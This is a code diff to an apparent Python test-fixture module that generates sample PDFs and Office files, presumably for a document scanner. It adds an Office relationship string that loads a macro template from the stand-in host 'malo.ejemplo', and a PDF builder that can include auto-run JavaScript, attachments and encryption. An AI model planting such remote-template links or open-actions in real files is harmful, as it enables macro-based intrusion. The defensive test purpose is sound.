@@ -4,6 +4,7 @@ import base64
 import io
 import zipfile
 import zlib
+from typing import Any
 
 from PIL import ExifTags, Image
 
@@ -15,6 +16,12 @@ WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.
 EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
 POWERPOINT = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
 WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
+
+
+REMOTE_TEMPLATE = (
+    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    'Target="http://malo.ejemplo/plantilla.dotm" TargetMode="External"/></Relationships>'
+)
 
 
 def pdf(inside: bytes = b"", *, text: str = "Carta de compromiso") -> bytes:
@@ -112,3 +119,24 @@ def photograph(*, size: tuple[int, int] = (640, 480), turned: bool = True, seed:
 
 
 JPEG, WEBP = picture(), picture("WEBP")
+
+
+def pdf_with(**parts: Any) -> bytes:
+    """A real PDF, as a program writes it. `action` runs when it opens, `attached` goes inside it, `locked` is the
+    password to open it and `limited` the one to change it; `packed` hides its objects in compressed streams."""
+    from pikepdf import AttachedFileSpec, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, String
+
+    paper = Pdf.new()
+    paper.add_blank_page()
+    if action := parts.get("action"):
+        paper.Root.OpenAction = Dictionary(S=Name(action), JS=String("app.alert(1)"), F=String("x"))
+    if attached := parts.get("attached"):
+        paper.attachments["otro.txt"] = AttachedFileSpec(paper, attached)
+    options: dict[str, Any] = {}
+    if parts.get("packed"):
+        options["object_stream_mode"] = ObjectStreamMode.generate
+    if "locked" in parts or "limited" in parts:
+        options["encryption"] = Encryption(user=parts.get("locked", ""), owner=parts.get("limited", "x"), R=6)
+    kept = io.BytesIO()
+    paper.save(kept, **options)
+    return kept.getvalue()
